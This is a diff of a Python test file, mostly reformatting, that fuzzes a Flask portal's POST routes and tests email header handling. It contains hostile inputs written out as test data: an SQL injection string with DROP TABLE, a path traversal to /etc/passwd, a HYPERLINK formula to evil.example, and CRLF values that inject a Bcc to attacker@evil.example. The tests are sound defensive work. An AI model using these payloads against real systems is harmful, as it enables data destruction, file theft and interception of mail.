@@ -31,7 +31,7 @@ HOSTILE = [
     SCRIPT + TEMPLATE + CRLF,
     "x" * 100_000,
     "ünïcödé 🙂 \u202egnp.exe \u200b 中文 עברית \U0001f4a9 \ufeff",
-    "' OR 1=1; DROP TABLE users; -- ../../etc/passwd =HYPERLINK(\"http://evil.example\")",
+    '\' OR 1=1; DROP TABLE users; -- ../../etc/passwd =HYPERLINK("http://evil.example")',
     "   ",
     "-1",
     "99999999999999999999999",
@@ -39,8 +39,25 @@ HOSTILE = [
 ]
 # Names posted to every route besides those its form shows: the usual field names, so that
 # POST-only routes (buttons) and fields hidden by state are exercised too.
-COMMON_FIELDS = ["name", "email", "full_name", "title", "summary", "notes", "reference", "code", "password",
-                 "confirm", "current_password", "q", "reason", "comment", "date", "version", "next"]
+COMMON_FIELDS = [
+    "name",
+    "email",
+    "full_name",
+    "title",
+    "summary",
+    "notes",
+    "reference",
+    "code",
+    "password",
+    "confirm",
+    "current_password",
+    "q",
+    "reason",
+    "comment",
+    "date",
+    "version",
+    "next",
+]
 ROLES = ["admin", "inspector", "police"]
 # Posting these ends the client's own session; the client is renewed for every request anyway.
 _FIELD = re.compile(r'<(?:input|textarea|select)\b[^>]*\bname="([^"]+)"', re.I)
@@ -104,8 +121,13 @@ def test_every_post_route_survives_random_text(app: Flask, who: str) -> None:
     post_routes = list(routes(app, "POST"))
     fields = {route.url: form_fields(app, user, route) for route in post_routes}
 
-    @settings(max_examples=60, deadline=None, derandomize=True, database=None,
-              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+    @settings(
+        max_examples=60,
+        deadline=None,
+        derandomize=True,
+        database=None,
+        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+    )
     @given(data=st.data())
     def post_random(data: st.DataObject) -> None:
         route = data.draw(st.sampled_from(post_routes), label="route")
@@ -134,8 +156,11 @@ def test_cr_lf_in_email_input_never_adds_a_header(app: Flask) -> None:
     from notifications.outbox import queue_email
 
     user = seed_demo()["police"]
-    email = {"template": "password_link", "recipient": user,
-             "context": {"link": "http://portal.test/x", "purpose": "reset", "expires_at": None}}
+    email = {
+        "template": "password_link",
+        "recipient": user,
+        "context": {"link": "http://portal.test/x", "purpose": "reset", "expires_at": None},
+    }
     # An address with a line break in it is refused, or flattened: never a second header.
     try:
         row = queue_email(to="police@police.example\r\nBcc: attacker@evil.example", subject="Hello", **email)
@@ -145,12 +170,14 @@ def test_cr_lf_in_email_input_never_adds_a_header(app: Flask) -> None:
         assert "\r" not in row.to_address and "\n" not in row.to_address
     db.session.rollback()
 
-    row = queue_email(to="police@police.example", subject="Case update\r\nBcc: attacker@evil.example\nX-Injected: yes",
-                      **email)
+    row = queue_email(
+        to="police@police.example", subject="Case update\r\nBcc: attacker@evil.example\nX-Injected: yes", **email
+    )
     db.session.flush()
     assert "\r" not in row.subject and "\n" not in row.subject
-    message = Message(subject=row.subject, recipients=[row.to_address], body=row.body_text,
-                      sender="portal@inspectorate.example")
+    message = Message(
+        subject=row.subject, recipients=[row.to_address], body=row.body_text, sender="portal@inspectorate.example"
+    )
     parsed = message_from_bytes(message.as_bytes(), policy=email_policy)
     assert parsed["Bcc"] is None and parsed["X-Injected"] is None
     assert parsed["To"] == "police@police.example"
